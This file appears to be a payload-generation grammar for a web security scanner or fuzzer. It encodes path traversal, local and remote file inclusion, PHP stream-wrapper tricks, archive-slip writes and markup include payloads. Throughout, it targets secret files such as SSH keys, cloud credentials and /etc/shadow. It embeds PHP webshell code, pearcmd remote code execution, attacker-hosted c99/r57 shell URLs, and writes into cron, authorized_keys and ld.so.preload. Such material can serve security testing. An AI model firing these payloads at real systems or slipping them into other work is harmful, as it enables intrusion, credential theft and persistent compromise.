  /‹:s:/›‹tr.blurred›
  /proc/self/‹root¦cwd›/‹:s:/›‹‹tr.unix›¦‹tr.app››
  /dev/fd/‹../environ¦../maps¦‹#0-20››
  /‹:s:/›‹var/www¦srv¦app¦usr/src/app¦opt/‹~3-8›¦home/‹~3-8›¦usr/local/www›/‹tr.app›
  /‹:s:/›var/www/‹¦html/¦‹~3-8›/›‹tr.source›
  ‹~3-8›,/‹:s:/›‹tr.unix›
  @/‹:s:/›‹tr.unix›
  <‹:s:/›/‹tr.unix›
  ‹"¦'›/‹:s:/›‹tr.unix›‹"¦'›
  /‹:s:/›‹tr.unix›,/‹tr.unix›
  ~/‹:s:/›‹tr.home›
  ~‹root¦‹~3-7››/‹:s:/›‹tr.home›
  §{‹HOME¦PWD¦OLDPWD¦DOCUMENT_ROOT›}/‹:s:/›‹‹tr.home›¦‹tr.app››
  /‹:s:/›‹percentAll!‹tr.unix››
  /{etc,var}/‹passwd¦log/*›
  /etc/‹*¦pass*¦?asswd¦[p]asswd›
  ‹:s:/›‹b64!/‹tr.unix››
tr.hot = WEB-INF/web.xml WEB-INF/classes/application.properties META-INF/context.xml .git/config .git/HEAD .htpasswd .aws/credentials .ssh/id_rsa .env wp-config.php
  sites/default/settings.php config/master.key config/secrets.yml app/etc/env.php web.config BOOT-INF/classes/application.yml
traversal/own-file [value] 2: ‹tr.hot›
  ‹:s:/›.‹/¦//¦/./›‹tr.hot›
  2× ‹:s:/›/‹tr.app›‹tr.after›
  ‹tr.way›‹×1-5:‹=u››‹tr.app›‹tr.after›
  ‹:s:/›‹~3-8›/‹×1-3:../›‹tr.app›
  ‹:s:/›‹tr.app›‹%00¦␀›‹¦.jpg¦.html›
  ‹:s:/›‹mixed!WEB-INF›/‹web.xml¦classes/application.properties¦./web.xml¦%2e/web.xml›
traversal/windows [value] 7: 4× ‹:s:\›‹C¦c¦C¦D¦E¦c›:\‹tr.drive›
  ‹:s:/›‹C¦c¦D›:/‹tr.drive›
  ‹:s:\\›‹C¦c›:\\‹tr.drive›
  ‹:s:\›‹C¦c›:\‹tr.drive›‹tr.after›
  ‹:s:‹tr.slash››‹C¦c›:‹=s›‹tr.drive›
  ‹:s:\›\‹tr.drive›
  ‹:s:/›/‹C¦c›‹:¦|¦§¦%3a¦%7c›/‹tr.drive›
  ‹:s:\›‹C¦c›:‹tr.drive›
  ‹:s:\›%‹SystemRoot¦WINDIR¦windir¦SYSTEMROOT›%\‹tr.win›
  %‹SystemDrive¦HOMEDRIVE›%\‹:s:\›‹tr.drive›
  %‹USERPROFILE¦APPDATA¦ProgramData¦TEMP¦PUBLIC¦ProgramFiles›%\‹×1-3\:‹~3-8››\‹~3-8›.‹ini¦xml¦txt¦dat¦config›
  §env:‹windir¦USERPROFILE¦APPDATA›\‹:s:\›‹tr.win›
  ‹\\?\¦\\.\¦\??\¦//?/¦//./¦\\?\UNC\localhost\c§\..\¦\\?\GLOBALROOT\Device\HarddiskVolume‹#1-4›\›‹:s:\›C:\‹tr.drive›
  \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹#1-30›\‹:s:\›windows\‹tr.win›
  \\.\‹PhysicalDrive‹#0-3›¦pipe\‹~3-8›¦C:¦COM‹#1-4›¦CON¦NUL¦aux¦globalroot\device\condrv\kernelconnect›
  ‹:s:\›‹~3-8›\‹×3-9:..\›‹tr.drive›
  ‹:s:\›C:\‹×2-6:‹~3-8›\..\›‹tr.drive›
  ‹:s:\›‹mixed!c:\windows\›‹mixed!‹tr.win››
  ‹:s:\›file:///‹C¦c›‹:¦|›/‹‹tr.drive›¦windows/win.ini›
  ‹CON¦PRN¦AUX¦NUL¦COM1¦LPT1›‹\..\..\win.ini¦/../../‹~3-8›.ini¦::§DATA¦:\..\..\boot.ini›
  ‹C:\PROGRA~‹#1-2›¦C:\DOCUME~1¦C:\INETPUB~1›\‹^3-6›~‹#1-3›\‹~3-8›.‹ini¦xml¦dat›
traversal/unc [value] 3: \\‹host›\‹share¦c§¦public¦a¦‹~3-8››\‹~3-8›.‹txt¦dll¦exe¦php¦ico¦scf¦lnk¦png¦docx¦aspx›
  \\‹ip›\‹c§¦admin§¦ipc§¦share¦pub¦‹~2-8››‹¦\‹~2-8›¦\‹~3-8›.‹txt¦php¦js¦xml››
  \\\\‹addr›\\‹share¦‹~3-8››\\‹~3-8›‹¦.txt¦.dll›
  \\‹localhost¦127.0.0.1¦.¦127.0.0.‹#2-9›¦::1.ipv6-literal.net›\‹C§¦c§¦D§¦admin§›\‹:s:\›‹tr.drive›
  //‹‹ip›¦‹host››/‹c§¦share¦‹~3-8››/‹:s:/›‹tr.drive›
  \\‹host›@‹80¦SSL¦SSL@443¦‹#1024-65000››\‹~3-8›\‹~3-8›.‹dll¦js¦txt¦ico›
  \\‹ip›@80\DavWWWRoot\‹~3-8›.‹aspx¦xml¦exe›
  \\?\UNC\‹addr›\‹~3-8›\‹~3-8›
  file:‹//¦////¦/////›‹‹ip›¦‹host››/‹share¦c§¦‹~3-8››/‹~3-8›‹¦.‹txt¦jpg¦php¦docx››
  file:\\‹‹ip›¦‹host››\‹~3-8›\‹~3-8›.‹txt¦dll›
  ‹%5c%5c¦%5C%5C¦\/¦/\›‹addr›‹%5c¦/¦\›‹~3-8›‹%5c¦/¦\›‹~3-8›
  ‹smb¦cifs›://‹¦‹~3-7›:‹*4-9›@›‹addr›/‹share¦c§¦‹~3-8››/‹~3-8›‹¦.txt›
  \\§{‹hostname¦env.USERNAME¦env:COMPUTERNAME›}.‹host›\‹~3-6›
  [shell]⏎command=2⏎iconfile=\\‹addr›\‹~3-8›\‹~3-8›.ico
  [InternetShortcut]⏎URL=file://‹addr›/‹~3-8›⏎IconFile=\\‹addr›\%USERNAME%.icon
traversal/file-uri [value] 4: ‹file¦FILE¦File¦fIlE›:‹///¦//¦/¦//localhost/¦//127.0.0.1/¦////¦//./¦/%2f/¦\\\¦///./¦%2f%2f%2f›‹:s:/›‹tr.unix›‹¦¦‹tr.after››
  file:///‹C:¦c:¦c|¦C%3a¦›/‹:s:/›‹tr.drive›
  file:‹//¦›‹:s:/›‹tr.unix›
  file:///‹:s:/›‹×1-8:../›‹tr.unix›
  file://‹host›/‹×2-6:../›‹:s:/›‹tr.unix›
  ‹view-source¦url¦jar¦local¦netdoc¦feed¦wrap¦blob›:file:///‹:s:/›‹tr.unix›
  ‹netdoc¦local_file¦localfile¦vfs¦resource¦chrome-extension¦content¦res¦filesystem›://‹/¦›‹:s:/›‹tr.unix›
  file:///‹:s:/›‹percentAll!‹tr.unix››
  file%3a%2f%2f%2f‹:s:%2f›‹tr.unix›
  file:///‹:s:/›‹tr.unix›?‹.jpg¦‹~2-6›=‹~2-6›¦http://‹host››
  ‹file:///¦file://›‹:s:/›‹tr.unix›#‹~1-5›.‹png¦pdf›
  url=file:///‹:s:/›‹tr.unix›
  content://‹com¦org›.‹~3-8›.provider/‹×2-6:..%2f›‹:s:%2f›data%2fdata%2f‹~3-8›%2f‹~3-8›.db
traversal/java [value,value,path] 2: ‹classpath¦classpath*¦CLASSPATH›:‹/¦›‹application‹¦-prod¦-dev¦-local›.‹yml¦properties›¦jdbc.properties¦log4j2.xml¦META-INF/MANIFEST.MF¦bootstrap.yml¦‹~3-8›/‹~3-8›.‹xml¦properties¦class››
  jar:file:‹//¦›‹:s:/›/‹app¦opt¦home/‹~3-8›¦srv›/‹~3-8›.‹jar¦war¦zip›!/‹BOOT-INF/classes/application.yml¦WEB-INF/web.xml¦META-INF/MANIFEST.MF¦‹~3-8›.properties›
  jar:‹http¦https›://‹addr›/‹~3-8›.‹jar¦zip¦png›!/‹~3-8›‹¦.‹txt¦xml¦class››
  ‹/¦//¦/./¦/;/¦/%2e/¦/.;/¦/‹~3-8›;/¦/%5c¦/\¦/;‹~1-5›=‹~1-5›/›‹WEB-INF¦META-INF¦web-inf¦WEB-INF.¦WEB-INF%20¦WEB-INF;¦%57EB-INF¦WEB-INF%2e¦meta-inf¦W%45B-INF¦WEB-INF..¦WEB-INF;‹~1-3››/‹web.xml¦classes/‹~3-8›.properties¦classes/application.yml¦context.xml¦‹~3-8›.xml¦lib/‹~3-8›.jar¦classes/‹~2-3›/‹~3-8›/‹^1›‹~3-8›.class›
  /‹~3-8›/‹×1-5:‹..%2f¦%2e%2e/¦..;/¦..%5c¦%255c%255c..%255c¦..%252f¦%252e%252e%252f››WEB-INF/‹web.xml¦classes/‹~3-8›.xml›
  /‹javax.faces.resource¦resources¦static¦webjars¦a4j/g/3_3_1.GA›‹/‹×1-4:‹../¦..%2f¦.../¦%252e%252e%252f››WEB-INF/web.xml¦.../WEB-INF/web.xml.jsf¦/dynamiccontent.properties.xhtml;/WEB-INF/web.xml›
  file:‹/app¦/opt/‹~3-8››.jar!/BOOT-INF/classes!/‹application.properties¦‹~3-8›.yml›
  ‹~3-8›/‹×1-4:%25‹2e¦2E›%252e%252f›BOOT-INF/classes/application.yml
  ‹forward¦redirect¦include›:/WEB-INF/‹web.xml¦jsp/‹~3-8›.jsp¦classes/‹~3-8›.properties›
  ‹:s:/›/‹~3-8›/‹~3-8›/‹×3-9:..%252F›‹tr.unix›%23/‹master¦main¦‹~3-8››
  ‹:s:%252F›/‹~3-8›/‹~3-8›/‹×3-9:..‹=s››‹tr.unix›%23/‹~3-8›

tr.codes = UTF8 UTF-8 UTF16 UTF-16 UTF-16LE UTF-16BE UTF32 UTF7 CSISO2022KR ISO2022KR ISO-2022-JP-3 ISO-IR-111 ISO6937 ISO88594 ISO88597 ISO_8859-14 JOHAB
  CSGB2312 GBK GB18030 BIG5 BIG5HKSCS CP1256 CP1162 CP866 CP869 CP949 CP775 CP367 IBM1132 IBM860 IBM037 IBM932 IBM904 L1 L4 L5 L6 L7 LATIN6 MS932 MS936 EUCTW
  SHIFT_JISX0213 SJIS EUCJPMS EUCKR UHC UCS2 UCS-2LE UCS4 UCS-4LE WINDOWS-1258 WINBALTRIM KOI8R MAC MACCYRILLIC JS NAPLPS PT T.618 T.61 HU UNICODE RK1048 8859_3 ARABIC GEORGIAN-ACADEMY
tr.filter: 4× convert.base64-encode
  convert.base64-decode
  2× convert.iconv.‹tr.codes›‹.¦/›‹tr.codes›
  convert.quoted-printable-encode
  string.‹rot13¦toupper¦tolower¦strip_tags›
  zlib.‹deflate¦inflate›
  bzip2.‹compress¦decompress›
  dechunk
  ‹mixed!convert.base64-encode›
  convert%2ebase64-encode
  convert.%6%32%61se64-encode
  mcrypt.tripledes
tr.resource: 3× ‹index¦config¦admin¦login¦flag¦db¦upload¦functions¦‹~3-8›¦../config¦../index¦./‹~3-8››‹¦.php¦.inc›
  2× /‹:s:/›‹tr.unix›
  ‹:s:/›‹tr.app›
  ‹:s:/›‹×1-8:../›‹‹tr.app›¦‹tr.source›¦‹tr.unix››
  ‹:s:/›/var/www/html/‹‹tr.source›¦‹tr.app››
  ‹php://temp¦php://memory¦php://input¦data:,¦data://,a¦data:text/plain;base64,‹*8-40›¦http://‹addr›/‹~3-8›.txt›
  file:///‹:s:/›‹tr.unix›
  ‹:s:\›C:\‹tr.drive›
tr.phpcode: <?php ‹system¦passthru¦shell_exec¦eval¦assert¦exec›(‹§_GET['‹~1-4›']¦§_POST[‹~1-3›]¦§_REQUEST["cmd"]¦'‹id¦ls -la¦whoami¦uname -a›'›);‹ ?>¦?>¦›
  <?php phpinfo();‹ ?>¦?>¦›
  <?=´§_GET[‹#0-9›]´?>
  <?php echo ‹file_get_contents('/etc/passwd')¦md5('‹~3-6›')¦scandir('.')¦base64_encode(file_get_contents('index.php'))›; ?>
  <?php highlight_file('‹~3-8›.php');
tr.php: 5× php://filter/‹read=¦¦¦¦write=›‹tr.filter›/resource=‹tr.resource›
  2× php://filter/‹read=¦›‹×2-5|:‹tr.filter››/resource=‹tr.resource›
  php://filter/‹×2-4/:‹tr.filter››/resource=‹tr.resource›
  ‹mixed!php›://‹mixed!filter›/‹mixed!read=›‹tr.filter›/‹mixed!resource›=‹tr.resource›
  php:‹%2f%2f¦\/\/¦%252f%252f¦/›filter‹%2f¦/¦\/›convert.base64-encode‹%2f¦/¦\/›resource=‹tr.resource›
  php://filter/‹×4-24|:‹convert.base64-decode¦convert.base64-encode¦convert.iconv.‹tr.codes›.‹tr.codes›¦convert.iconv.‹tr.codes›.‹tr.codes›››/resource=‹tr.resource›
  php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|‹×3-20:convert.iconv.UTF8.UTF7|convert.iconv.‹tr.codes›.‹tr.codes›|convert.base64-decode|›convert.base64-decode/resource=php://temp
  php://filter/‹~3-8›/‹read=¦›convert.base64-encode/‹~3-8›/resource=‹tr.resource›
  php://filter/‹zlib.deflate|convert.base64-encode¦string.strip_tags|convert.base64-decode›/resource=‹tr.resource›‹%00¦?¦#›
  php://filter/resource=‹tr.resource›
  php://filter//convert.base64-encode/resource=‹×1-6:../›‹:s:/›‹‹tr.app›¦‹tr.source››
  2× php://‹input¦stdin¦fd/‹#0-20›¦memory¦temp¦stdout¦output›‹¦¦%00¦?cmd=‹id¦ls››
  ‹pHp¦PHP¦Php¦phP›://‹input¦InPut¦filter/convert.base64-encode/resource=‹tr.resource››
  3× data:‹//¦›text/plain‹;base64,‹b64!‹tr.phpcode››¦,‹tr.phpcode›¦;charset=utf-8,‹tr.phpcode››
  data:‹,¦;base64,‹b64!‹tr.phpcode››¦text/html,‹tr.phpcode›¦application/x-httpd-php;base64,‹b64!‹tr.phpcode››¦image/png;base64,‹b64!‹tr.phpcode››¦//;base64,‹b64!‹tr.phpcode›››
  data:‹//¦›text/plain;base64,‹percent!‹b64!‹tr.phpcode›››
  expect://‹id¦ls¦whoami¦uname%20-a¦cat+/etc/passwd¦ls%20-la¦ping%20-c%201%20‹addr››
  phar://‹.¦..¦/var/www/html¦/tmp¦uploads¦./uploads¦../uploads¦‹~3-8››/‹~3-9›.‹jpg¦png¦gif¦phar¦zip¦tar.gz¦pdf›‹¦/‹~2-8›.‹php¦txt›¦/‹~2-8››
  ‹compress.zlib¦compress.bzip2›://‹phar://¦file://¦http://‹host›¦php://filter/¦›/‹:s:/›‹tr.unix›
  zip://‹/tmp¦uploads¦./‹~3-8›¦/var/www/uploads›/‹~3-8›.‹zip¦jpg¦docx›‹%23¦#›‹~2-8›.‹php¦txt¦php%00›
  ‹rar¦zlib¦bzip2¦ogg¦gzip›://‹~3-8›.‹rar¦gz¦jpg¦ogg›‹%23¦#¦/›‹~3-8›‹¦.php›
  ‹ssh2.shell¦ssh2.exec¦ssh2.sftp¦ssh2.tunnel›://‹~3-7›:‹*4-9›@‹addr›/‹xterm¦id¦whoami¦etc/passwd›
  glob://‹/*¦/etc/*¦./*¦../*.php¦/var/www/html/*¦/home/*/*¦/proc/self/fd/*¦C:\*›
  ‹mixed!data›:text/plain,‹tr.phpcode›
  ‹‹×2-5:../›¦/›‹usr/local/lib/php¦usr/share/php›/pearcmd‹.php¦›&+config-create+/&/<?=‹phpinfo()¦@eval(§_POST[‹~1-4›])¦system(§_GET[0])›?>+/tmp/‹~3-8›.php
  ‹‹×2-5:../›¦/›usr/local/lib/php/pearcmd.php?+install+-R+/tmp+http://‹addr›/‹~3-8›.php
  ‹phar¦zip¦php›:%2f%2f‹~3-8›%2f‹~3-8›.‹jpg¦phar›
traversal/stream [value] 9: 8× ‹tr.php›
  ‹~3-8›=‹tr.php›
  ./‹tr.php›
  "‹tr.php›"
  ‹percent!‹tr.php››
tr.shell: 3× ‹shell¦c99¦r57¦cmd¦evil¦backdoor¦b374k¦wso¦fx29id¦test-rfi¦webshell¦exploit¦payload¦rfi›‹¦‹#1-99››.‹txt¦php¦gif¦jpg¦inc¦dat¦png¦log›
  ‹id¦id1¦sh¦safe¦bot¦inject¦idx¦echo¦x›.txt
  ‹~2-8›/‹shell¦c99¦r57¦cmd¦id¦evil›.‹txt¦php›
tr.remote: ‹http¦https¦http¦ftp¦HTTP¦hTTp›://‹addr›/‹tr.shell›‹?¦??¦???¦%00¦%3f¦␀¦#¦%23¦?&cmd=id¦?cmd=‹id¦ls¦uname%20-a››
  ‹http¦https›://‹addr›/‹~1-9›.txt‹?¦??¦???¦%00¦␀›
  ‹http¦https›://‹addr›/‹¦‹~2-8›/¦~‹~3-7›/¦wp-content/‹~3-8›/›‹shell¦c99¦r57¦cmd¦evil¦backdoor¦b374k¦wso¦webshell›.‹txt¦php›‹?¦%00¦?‹~1-3›=id¦›
traversal/remote [value] 5: 4× ‹tr.remote›
  //‹addr›/‹tr.shell›‹?¦%00¦??¦#›
  \\‹addr›\‹~2-8›\‹tr.shell›
  http:‹\\¦%2f%2f¦/¦%5c%5c¦//////¦›‹addr›/‹tr.shell›?
  ftp://‹‹~3-7›:‹*4-9›@¦anonymous:‹~3-6›@¦›‹addr›/‹tr.shell›
  http://‹#1000000000-3500000000›/‹tr.shell›?
  http://0x‹%8›/‹tr.shell›
  http%3A%2F%2F‹addr›%2F‹tr.shell›%3F
  ‹×1-3:../›http://‹addr›/‹tr.shell›?
  ‹~3-8›=‹tr.remote›
  hhttp://ttp://‹addr›/‹tr.shell›
  ‹hthttp://tp://¦htthttpp://¦http:http://›‹addr›/‹tr.shell›
  ‹http¦https›://‹addr›/‹~2-8›.‹dtd¦hta¦sct¦so¦phar¦jsp¦aspx¦elf¦ps1›‹?¦??¦%00›
  ‹tr.remote›?‹×10-60:/.›
  ogg://‹addr›/‹~2-8›
  ‹sftp¦tftp¦scp¦rsync¦svn+ssh¦ssh2.sftp›://‹addr›/‹~2-8›/‹tr.shell›
  ‹http¦https›://‹addr›/‹~2-6›.‹gif¦jpg›?‹=c:‹cmd¦c¦exec¦0››=‹id¦ls%20-la¦whoami¦cat%20/etc/passwd¦dir›
traversal/write [value,value,body-json] 2: ‹tr.slip›
  {"‹filename¦name¦path¦file¦key¦dest¦entry›":"‹json!‹tr.slip››","‹content¦data¦body›":"‹*12-60›"}
tr.slip: 3× ‹:u:‹../¦../¦..\¦..%2f¦....//¦%2e%2e%2f¦..\\››‹×2-10:‹=u››‹var/www/‹html/¦›‹~3-8›.php¦www/‹~3-8›.jsp¦usr/local/tomcat/webapps/ROOT/‹~2-6›.jsp¦webapps/‹~3-8›/‹~2-6›.war¦root/.ssh/authorized_keys¦home/‹~3-7›/.bashrc¦etc/cron.d/‹~3-6›¦etc/cron.hourly/‹~2-6›¦var/spool/cron/root¦tmp/‹~3-8›.‹sh¦so¦txt¦php›¦etc/ld.so.preload¦etc/passwd¦etc/profile.d/‹~2-6›.sh¦usr/bin/‹~3-6›¦opt/‹~3-8›/lib/‹~3-8›.jar›
  2× ‹:u:‹..\¦../¦..\\¦..%5c››‹×2-10:‹=u››‹inetpub\wwwroot\‹~2-6›.aspx¦Windows\System32\‹~3-6›.dll¦Users\Public\‹~3-8›.exe¦ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\‹~3-8›.‹bat¦lnk¦exe¦vbs›¦Windows\Temp\‹~2-6›.‹ps1¦exe›¦xampp\htdocs\‹~2-6›.php¦Windows\Tasks\‹~3-6›.job›
  ‹:u:../›‹×3-8:‹=u››‹~3-8›.‹php¦phtml¦jsp¦aspx¦jspx¦war¦ashx¦cgi¦htaccess¦php5›
  ‹:u:‹../¦..\››‹×3-9:‹=u››‹~3-8›.‹sh¦exe¦dll¦so¦txt¦py¦pl¦rb›
  ‹~3-8›/‹×3-9:../›‹~3-8›/‹~3-8›.‹php¦sh¦jsp¦so›
  /‹etc/cron.d/‹~3-6›¦root/.ssh/authorized_keys¦var/www/html/‹~2-6›.php¦etc/ld.so.preload¦var/spool/cron/crontabs/root¦usr/lib/systemd/system/‹~3-7›.service›
  C:\‹inetpub\wwwroot\‹~2-6›.aspx¦Windows\System32\‹~3-6›.dll¦Users\Public\‹~3-6›.bat›
  ‹:u:../›‹×1-4:‹=u››.‹htaccess¦ssh/authorized_keys¦git/hooks/‹post-checkout¦pre-commit›¦bashrc¦npmrc¦github/workflows/‹~3-7›.yml¦env›
  ‹~2-8› -> ‹×2-7:../›etc/‹passwd¦shadow¦cron.d›
  attachment; filename="‹×2-8:‹../¦..\››‹~3-8›.‹php¦exe¦sh¦jsp›"
  attachment; filename*=UTF-8''‹×2-8:..%2f›‹~3-8›.‹php¦jsp¦sh›
traversal/slip [file] 1: PK␃␄‹*6-12›‹×3-9:../›‹var/www/html/‹~2-6›.php¦etc/cron.d/‹~3-6›¦tmp/‹~3-8›.sh¦root/.ssh/authorized_keys¦usr/local/bin/‹~3-6››‹*10-60›PK␁␂
  PK␃␄‹*6-12›‹×3-9:..\›‹inetpub\wwwroot\‹~2-6›.aspx¦Windows\Temp\‹~3-6›.exe›‹*10-60›
  ‹×2-9:../›etc/passwd␀␀␀␀0000644␀0000000␀0000000␀‹#10000000000-17777777777›␀ustar
  ‹~3-8›.‹jpg¦txt¦png›␀␀0000777␀0000000␀0000000␀00000000000␀ 2‹/etc/passwd¦/root/.ssh/id_rsa¦/proc/self/environ¦/etc/shadow¦../../../../‹~3-8››␀ustar
  --- a/‹×3-7:../›etc/passwd⏎+++ b/‹×3-7:../›etc/passwd⏎@@ -1 +1 @@⏎+‹~3-6›:x:0:0::/root:/bin/sh
  #EXTM3U⏎#EXT-X-MEDIA-SEQUENCE:0⏎#EXTINF:10.0,⏎‹file:///¦concat:http://‹addr›/‹~2-6›.m3u8|file:///›‹:s:/›‹tr.unix›⏎#EXT-X-ENDLIST
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="‹text:¦file://¦msl:¦›/‹:s:/›‹tr.unix›"/></svg>
  push graphic-context⏎viewbox 0 0 640 480⏎image over 0,0 0,0 '‹label:@¦text:¦caption:@¦ephemeral:¦msl:›/‹:s:/›‹tr.unix›'⏎pop graphic-context
  <html><body>‹tr.tag›</body></html>
  ‹tr.include›
tr.tag: <‹iframe¦embed¦frame¦portal› src=‹"¦'¦›file:///‹:s:/›‹tr.unix›
  <object data="file:///‹:s:/›‹tr.unix›"></object>
  <img src="file:///‹:s:/›‹tr.unix›">
  <link rel=‹attachment¦stylesheet¦import› href="file:///‹:s:/›‹tr.unix›">
  <annotation file="/‹:s:/›‹tr.unix›" content="‹~3-8›" icon="Graph" pos-x="0" pos-y="0" />
  <script>x=new XMLHttpRequest;x.onload=function(){document.write(‹this.responseText¦btoa(this.responseText)›)};x.open('GET','file:///‹:s:/›‹tr.unix›');x.send();</script>
  <script>fetch('file:///‹:s:/›‹tr.unix›').then(r=>r.text()).then(t=>document.body.innerText=t)</script>
  <style>@import url(file:///‹:s:/›‹tr.unix›);</style>
  <meta http-equiv="refresh" content="0;url=file:///‹:s:/›‹tr.unix›" />
  <textarea><#include "‹×2-6:../›‹:s:/›‹tr.unix›"></textarea>
  <xsl:include href="file:///‹:s:/›‹tr.unix›"/>
  <cfinclude template="‹×2-6:../›‹:s:/›‹tr.unix›">
  <jsp:include page="‹×2-5:../›WEB-INF/web.xml"/>
  <%@ include file="‹×2-6:../›‹:s:/›‹tr.unix›" %>
  <!--#include ‹virtual¦file›="‹×2-6:../›‹:s:/›‹tr.unix›"-->
tr.include: \‹input¦include¦verbatiminput¦lstinputlisting¦usepackage¦subfile¦openin5=›{/‹:s:/›‹tr.unix›}
  \newread\‹=f:‹~2-5››\openin\‹=f›=/‹:s:/›‹tr.unix› \read\‹=f› to\‹~1-4›\text{\‹~1-4›}
  \immediate\openin\‹~2-4›=‹×2-5:../›‹:s:/›‹tr.unix›
  .. ‹include¦literalinclude¦raw¦csv-table›:: /‹:s:/›‹tr.unix›
  .. raw:: html⏎   :file: /‹:s:/›‹tr.unix›
  include::‹/¦‹×2-6:../››‹:s:/›‹tr.unix›[]
  !include‹ ¦url ¦(›/‹:s:/›‹tr.unix›
  !‹file¦include_text¦inc› ‹×2-6:../›‹:s:/›‹tr.unix›
  {{< ‹readfile¦include› "/‹:s:/›‹tr.unix›" >}}
  <<[‹×2-6:../›‹:s:/›‹tr.unix›]
  ![‹~2-6›](‹file:///¦/uploads/‹%32›/‹×5-12:../››‹:s:/›‹tr.unix›)
  [‹~2-6›](/uploads/‹%32›/‹×4-14:../›‹:s:/›‹tr.unix›)
  @import ‹'¦"¦url(›file:///‹:s:/›‹tr.unix›‹'¦"¦)›;
  @/‹:s:/›‹tr.unix›
  <‹file:///¦/›‹:s:/›‹tr.unix›
  -F ‹~2-6›=@/‹:s:/›‹tr.unix›
  ‹text¦label¦caption¦msl¦mvg¦ephemeral¦vid›:‹@¦›/‹:s:/›‹tr.unix›
  subfile,,start,‹#0-9›,end,‹#20-9999›,,:/‹:s:/›‹tr.unix›
  concat:‹http://‹addr›/‹~2-6›.m3u8|¦›file:///‹:s:/›‹tr.unix›
  ‹file¦templatefile¦filebase64¦pathlookup›("/‹:s:/›‹tr.unix›")
  ‹require¦include¦require_once¦readfile¦highlight_file¦show_source¦fopen¦file_get_contents›('‹/¦‹×2-6:../››‹:s:/›‹tr.unix›')
  =‹WEBSERVICE¦IMPORTDATA›("file:///‹:s:/›‹tr.unix›")
  ='file:///‹:s:/›‹tr.unix›'#§passwd.A1
  %!PS⏎(/‹:s:/›‹tr.unix›) (r) file 256 string readstring
  /undefined {(/‹:s:/›‹tr.unix›) (r) file} def
  graph { ‹~1-4› [‹image¦shapefile›="/‹:s:/›‹tr.unix›"] }
  {% ‹include¦extends¦import¦ssi› '‹×2-6:../›‹:s:/›‹tr.unix›' %}
  #‹parse¦include›("‹×2-6:../›‹:s:/›‹tr.unix›")
  <%- include('‹×2-6:../›‹:s:/›‹tr.unix›') %>
  open ‹×2-6:../›‹:s:/›‹tr.unix›
traversal/include 3: ‹tr.include›
  ‹tr.tag›
traversal/markup [value,file] 1: ‹tr.tag›
  <p>‹tr.tag›</p>
  ‹word› ‹tr.include› ‹word›

tr.param = file filename path page include inc doc document folder root pg style pdf template php_path lang language locale view content layout mod conf dir show
  site download detail name cat action board date resource img image src load read dl attachment log url uri theme skin section data f p fn filePath file_path
  FileName fileName reportName fname target module report logfile preview ‹~2-9› ‹~2-7›‹File¦Path¦Name¦_file¦Dir›
tr.script: ‹index¦download¦view¦file¦main¦page¦get¦show¦read¦display¦image¦img¦pdf¦export¦loader¦thumb¦‹~3-9››.‹php¦jsp¦aspx¦asp¦cgi¦do¦action¦cfm¦ashx¦pl›
  ‹~3-8›/‹~3-9›‹¦.php¦.do›
  ‹download¦api/files¦api/v‹#1-3›/‹~3-8›¦export¦preview¦static¦servlet/‹^1›‹~4-9›¦wp-content/plugins/‹~4-9›/‹~3-9›.php¦wp-admin/admin-ajax.php¦cgi-bin/‹~3-8›.cgi¦components/com_‹~3-8›/‹~3-8›.php›
traversal/address [header,header,value] 3: ‹¦‹scheme›://‹host›¦‹scheme›://‹ip››/‹tr.script›?‹tr.param›=‹tr.climb›
  ‹¦‹scheme›://‹host››/‹tr.script›?‹~2-7›=‹rnd›&‹tr.param›=‹‹tr.climb›¦/‹:s:/›‹tr.unix›¦‹tr.php›¦‹tr.remote››
  ‹¦‹scheme›://‹host››/‹tr.script›?‹tr.param›=‹percent!‹tr.climb››
  ‹scheme›://‹host›/‹~3-8›/‹tr.way›‹tr.up›‹tr.target›
  ‹¦‹scheme›://‹host››/wp-admin/admin-ajax.php?action=‹~4-9›_‹~3-8›&‹tr.param›=‹:s:/›‹×2-5:../›wp-config.php
  ‹¦‹scheme›://‹host››/index.php?option=com_‹~4-9›&‹view¦controller¦task›=‹:s:/›‹×3-12:../›‹tr.unix›%00
  ‹tr.param›=‹tr.climb›&‹~2-7›=‹rnd›
  ‹tr.param›=‹tr.climb›
traversal/header [header,cookie] 4: ‹tr.climb›
  /‹admin¦‹~3-8›¦›‹tr.way›/‹×1-5:‹=u››‹tr.target›
  /‹:s:/›‹‹tr.unix›¦WEB-INF/web.xml¦.env¦.git/config›
  ‹tr.php›
  ‹tr.remote›
  ‹:s:\›C:\‹tr.drive›
  ‹en-US¦de¦en›,‹tr.climb›;q=0.‹#1-9›
  ‹~3-8›|‹tr.climb›|‹n›
  ‹b64!‹×3-9:../›etc/passwd›
  /‹static¦internal¦protected›/‹×2-7:‹../¦..%2f››‹:s:/›‹tr.unix›
traversal/json [body-json,body-json,value] 4: {"‹tr.param›":"‹json!‹tr.climb››"}
  {"‹tr.param›":"‹json!‹tr.climb››","‹~2-8›":‹‹n›¦"‹rnd›"¦true¦null¦[]›}
  {"‹~2-8›":{"‹tr.param›":"‹json!‹‹tr.climb›¦/‹:s:/›‹tr.unix›¦‹tr.php›››"}}
  {"‹files¦paths¦attachments¦images¦includes›":["‹json!‹tr.climb››"‹,"‹~3-8›.txt"¦›]}
  {"‹op¦action¦command¦method¦cmd›":"‹read¦get¦download¦open¦list¦cat¦readFile¦getFile›","‹tr.param›":"‹json!‹‹tr.climb›¦/‹:s:/›‹tr.unix›››"}
  {"jsonrpc":"2.0","id":‹#1-99›,"method":"‹~3-8›‹/¦.¦_›‹read¦get¦open¦download›","params":{"‹tr.param¦uri›":"‹json!‹‹tr.climb›¦file:///‹:s:/›‹tr.unix›››"}}
  {"template":{"‹path¦name¦file›":"‹json!‹tr.climb››"},"data":{}}
  {"‹html¦content¦markdown¦body›":"‹json!‹‹tr.tag›¦‹tr.include›››"}
  {"query":"{ ‹file¦readFile¦document¦attachment›(‹path¦name¦url›: \"‹json!‹json!‹tr.climb›››\") { ‹content¦url¦data› } }"}
  {"‹mounts¦volumes¦Binds›":["/‹:s:/›‹tr.unix›:/‹~2-6›"]}
  {"‹tr.param›":"‹json!‹‹tr.php›¦‹tr.remote›¦‹:s:\›C:\‹tr.drive›¦/‹:s:/›‹tr.unix›››"}
  {"type":"file","url":"file:///‹:s:/›‹tr.unix›"}
  ["‹json!‹tr.climb››"]

